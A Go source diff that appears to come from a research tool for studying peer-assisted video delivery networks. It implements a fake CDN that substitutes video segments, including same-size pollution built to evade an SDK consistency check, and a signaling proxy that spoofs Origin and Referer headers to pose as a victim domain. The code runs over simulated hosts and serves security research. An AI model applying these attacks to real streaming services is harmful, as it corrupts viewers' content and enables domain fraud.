@@ -1,0 +1,312 @@
+// Package mitm implements the attacker-side interception tooling the
+// paper's PDN analyzer uses: a fake CDN that substitutes video content,
+// and a signaling proxy that rewrites messages (Origin/Referer headers)
+// in flight.
+//
+// Both reproduce §IV's threat model: the attacker controls a peer and
+// the network path between that peer and the PDN/CDN servers (the paper
+// configures the peer with a self-signed root certificate to decrypt
+// its own proxy'd traffic). Neither component touches other peers'
+// traffic — the attacks work by corrupting what the attacker's own
+// client fetches and letting the PDN propagate it.
+package mitm
+
+import (
+	"context"
+	"encoding/json"
+	"fmt"
+	"io"
+	"net"
+	"net/http"
+	"net/netip"
+	"sync"
+	"sync/atomic"
+	"time"
+
+	"github.com/stealthy-peers/pdnsec/internal/hls"
+	"github.com/stealthy-peers/pdnsec/internal/media"
+	"github.com/stealthy-peers/pdnsec/internal/netsim"
+	"github.com/stealthy-peers/pdnsec/internal/wire"
+)
+
+// PolluteFunc decides the substitute bytes for a fetched segment.
+// Returning (nil, false) passes the original through.
+type PolluteFunc func(key media.SegmentKey, original []byte) ([]byte, bool)
+
+// SameSizePollution returns a PolluteFunc that replaces the payload of
+// the selected segment indices with attacker bytes of *identical
+// length* — the refined "video segment pollution" attack that survives
+// the SDK's bitrate-consistency check. Selecting nil indices pollutes
+// every segment.
+func SameSizePollution(indices []int) PolluteFunc {
+	sel := make(map[int]bool, len(indices))
+	for _, i := range indices {
+		sel[i] = true
+	}
+	return func(key media.SegmentKey, original []byte) ([]byte, bool) {
+		if len(sel) > 0 && !sel[key.Index] {
+			return nil, false
+		}
+		fake := make([]byte, len(original))
+		marker := []byte("POLLUTED:" + key.String() + ":")
+		for i := range fake {
+			fake[i] = marker[i%len(marker)]
+		}
+		return fake, true
+	}
+}
+
+// ForeignVideoPollution returns a PolluteFunc modelling the *direct*
+// content pollution attack: every segment is replaced with content from
+// a different video — different bitrate, hence different size — which
+// the SDK's consistency check catches.
+func ForeignVideoPollution(foreign *media.Video, rendition string) PolluteFunc {
+	return func(key media.SegmentKey, original []byte) ([]byte, bool) {
+		idx := key.Index
+		if !foreign.Live && foreign.Segments > 0 {
+			idx = key.Index % foreign.Segments
+		}
+		data, err := foreign.SegmentData(rendition, idx)
+		if err != nil {
+			return nil, false
+		}
+		return data, true
+	}
+}
+
+// FakeCDN is an HTTP server that forwards to a real CDN and substitutes
+// segment payloads. The attacker's peer is pointed at it (the paper
+// redirects the peer's video source URL via its proxy).
+type FakeCDN struct {
+	upstream string // real CDN base URL
+	client   *http.Client
+	pollute  PolluteFunc
+
+	substitutions atomic.Int64
+
+	httpSrv *http.Server
+}
+
+// NewFakeCDN constructs a fake CDN forwarding to upstream; outbound
+// requests are dialed from the given simulated host.
+func NewFakeCDN(host *netsim.Host, upstream string, pollute PolluteFunc) *FakeCDN {
+	return &FakeCDN{
+		upstream: upstream,
+		client: &http.Client{
+			Transport: &http.Transport{DialContext: host.Dialer()},
+			Timeout:   10 * time.Second,
+		},
+		pollute: pollute,
+	}
+}
+
+// Substitutions reports how many segment payloads were replaced.
+func (f *FakeCDN) Substitutions() int64 { return f.substitutions.Load() }
+
+// Serve starts the fake CDN on a host/port.
+func (f *FakeCDN) Serve(host *netsim.Host, port uint16) error {
+	l, err := host.Listen(port)
+	if err != nil {
+		return fmt.Errorf("mitm: fake cdn listen: %w", err)
+	}
+	f.httpSrv = &http.Server{Handler: http.HandlerFunc(f.handle)}
+	go func() { _ = f.httpSrv.Serve(l) }()
+	return nil
+}
+
+// Close stops the server.
+func (f *FakeCDN) Close() error {
+	if f.httpSrv != nil {
+		return f.httpSrv.Close()
+	}
+	return nil
+}
+
+func (f *FakeCDN) handle(w http.ResponseWriter, r *http.Request) {
+	resp, err := f.client.Get(f.upstream + r.URL.Path)
+	if err != nil {
+		http.Error(w, err.Error(), http.StatusBadGateway)
+		return
+	}
+	defer resp.Body.Close()
+	body, err := io.ReadAll(resp.Body)
+	if err != nil {
+		http.Error(w, err.Error(), http.StatusBadGateway)
+		return
+	}
+	if resp.StatusCode == http.StatusOK && f.pollute != nil {
+		if key, ok := segmentKeyFromPath(r.URL.Path); ok {
+			if fake, polluted := f.pollute(key, body); polluted {
+				body = fake
+				f.substitutions.Add(1)
+			}
+		}
+	}
+	w.Header().Set("Content-Type", resp.Header.Get("Content-Type"))
+	w.WriteHeader(resp.StatusCode)
+	w.Write(body)
+}
+
+// segmentKeyFromPath parses /v/<video>/<rendition>/seg<NNNNN>.ts.
+func segmentKeyFromPath(path string) (media.SegmentKey, bool) {
+	idx, ok := hls.ParseSegmentURI(path)
+	if !ok {
+		return media.SegmentKey{}, false
+	}
+	// strip leading "/v/" and trailing "/segNNNNN.ts"
+	const prefix = "/v/"
+	if len(path) < len(prefix) || path[:len(prefix)] != prefix {
+		return media.SegmentKey{}, false
+	}
+	rest := path[len(prefix):]
+	last := -1
+	for i := len(rest) - 1; i >= 0; i-- {
+		if rest[i] == '/' {
+			last = i
+			break
+		}
+	}
+	if last < 0 {
+		return media.SegmentKey{}, false
+	}
+	base := rest[:last]
+	mid := -1
+	for i := len(base) - 1; i >= 0; i-- {
+		if base[i] == '/' {
+			mid = i
+			break
+		}
+	}
+	if mid < 0 {
+		return media.SegmentKey{}, false
+	}
+	return media.SegmentKey{Video: base[:mid], Rendition: base[mid+1:], Index: idx}, true
+}
+
+// RewriteFunc inspects/modifies a signaling envelope in flight.
+// Returning the (possibly modified) envelope forwards it.
+type RewriteFunc func(fromClient bool, env wire.Envelope) wire.Envelope
+
+// SignalProxy is a TCP-level MITM on the signaling channel: it accepts
+// SDK connections, dials the real PDN server, and pipes frames through
+// a rewrite hook — the paper's domain-spoofing proxy.
+type SignalProxy struct {
+	host     *netsim.Host
+	upstream netip.AddrPort
+	rewrite  RewriteFunc
+
+	listener *netsim.Listener
+	wg       sync.WaitGroup
+	done     chan struct{}
+}
+
+// NewSignalProxy constructs a proxy dialing upstream from host.
+func NewSignalProxy(host *netsim.Host, upstream netip.AddrPort, rewrite RewriteFunc) *SignalProxy {
+	return &SignalProxy{host: host, upstream: upstream, rewrite: rewrite, done: make(chan struct{})}
+}
+
+// Serve starts the proxy on a port of its host.
+func (p *SignalProxy) Serve(port uint16) error {
+	l, err := p.host.Listen(port)
+	if err != nil {
+		return fmt.Errorf("mitm: proxy listen: %w", err)
+	}
+	p.listener = l
+	p.wg.Add(1)
+	go func() {
+		defer p.wg.Done()
+		for {
+			conn, err := l.Accept()
+			if err != nil {
+				return
+			}
+			p.wg.Add(1)
+			go func() {
+				defer p.wg.Done()
+				p.pipe(conn)
+			}()
+		}
+	}()
+	return nil
+}
+
+// Close stops the proxy.
+func (p *SignalProxy) Close() error {
+	select {
+	case <-p.done:
+	default:
+		close(p.done)
+	}
+	if p.listener != nil {
+		p.listener.Close()
+	}
+	p.wg.Wait()
+	return nil
+}
+
+// pipe relays envelopes between a client conn and the upstream server,
+// applying the rewrite hook in both directions.
+func (p *SignalProxy) pipe(clientConn net.Conn) {
+	defer clientConn.Close()
+	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
+	upstreamConn, err := p.host.Dial(ctx, p.upstream)
+	cancel()
+	if err != nil {
+		return
+	}
+	defer upstreamConn.Close()
+
+	clientCodec := wire.NewCodec(clientConn)
+	upstreamCodec := wire.NewCodec(upstreamConn)
+
+	relay := func(src, dst *wire.Codec, fromClient bool) {
+		for {
+			env, err := src.Read()
+			if err != nil {
+				dst.Close()
+				return
+			}
+			if p.rewrite != nil {
+				env = p.rewrite(fromClient, env)
+			}
+			if err := dst.Write(env); err != nil {
+				src.Close()
+				return
+			}
+		}
+	}
+	done := make(chan struct{})
+	go func() {
+		relay(upstreamCodec, clientCodec, false)
+		close(done)
+	}()
+	relay(clientCodec, upstreamCodec, true)
+	<-done
+}
+
+// SpoofOrigin returns a RewriteFunc that rewrites join requests to
+// claim the victim domain — the paper's domain-spoofing attack run
+// against an *unmodified* SDK.
+func SpoofOrigin(victimDomain string) RewriteFunc {
+	return func(fromClient bool, env wire.Envelope) wire.Envelope {
+		if !fromClient || env.Type != signalJoinType {
+			return env
+		}
+		var join map[string]any
+		if err := json.Unmarshal(env.Data, &join); err != nil {
+			return env
+		}
+		join["origin"] = "https://" + victimDomain
+		join["referer"] = "https://" + victimDomain + "/watch"
+		raw, err := json.Marshal(join)
+		if err != nil {
+			return env
+		}
+		env.Data = raw
+		return env
+	}
+}
+
+// signalJoinType mirrors signal.MsgJoin without importing the package
+// (mitm sits below the signaling layer and treats frames as data).
+const signalJoinType = "join"
